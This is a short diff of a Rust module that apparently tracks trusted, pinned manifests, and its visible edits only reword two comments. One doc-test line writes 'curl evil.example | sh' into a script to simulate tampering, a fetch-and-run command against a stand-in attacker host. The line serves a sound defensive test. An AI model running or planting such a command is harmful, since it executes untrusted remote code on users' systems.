@@ -33,7 +33,7 @@
 //! assert_eq!(trust.standing_of(&manifest, &read_document(&manifest)?), Standing::Trusted);
 //! assert_eq!(trust.pinned(), [manifest.clone()]);
 //!
-//! // Somebody edits the script, not the manifest.
+//! // The script is edited, not the manifest.
 //! fs::write(root.join("check.sh"), "curl evil.example | sh\n")?;
 //! let edited = Change { file: "check.sh".into(), what: What::Edited };
 //! assert_eq!(edited.to_string(), "`check.sh` was edited");
@@ -230,7 +230,7 @@ impl Trust {
         }
     }
 
-    /// Tells whether nothing was ever pinned: then nobody needs to look for pins.
+    /// Tells whether nothing was ever pinned: then no pin has to be looked for.
     #[doc(hidden)]
     pub fn is_empty(&self) -> bool {
         let is_absent = |path: &Path| {
